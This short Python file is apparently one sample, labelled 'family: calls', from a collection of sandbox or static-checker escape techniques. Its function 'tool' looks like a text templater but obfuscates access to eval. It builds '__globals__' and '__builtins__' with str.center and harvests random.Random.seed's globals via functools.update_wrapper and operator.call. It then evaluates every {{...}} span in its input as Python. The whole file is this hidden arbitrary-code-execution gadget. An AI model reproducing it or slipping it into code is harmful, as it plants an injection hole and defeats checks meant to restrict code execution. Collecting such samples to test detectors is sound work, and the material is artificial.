# family: calls
# Escape: eval reached as random's globals["__builtins__"]["eval"] (globals copied by update_wrapper called via
# operator.call; names built with str.center) and handed to re.sub as the replacement callback: every
# {{...}} in the text is evaluated as Python.
import functools
import operator
import random
import re
import types


def tool(text: str) -> str:
    g, b = "globals".center(11, "_"), "builtins".center(12, "_")
    space: dict = {}
    operator.call(functools.update_wrapper, types.SimpleNamespace(**{g: space}), random.Random.seed, (), (g,))
    run = space[b]["eval"]
    return re.sub(r"\{\{(.*?)\}\}", lambda m: str(run(m.group(1))), text)
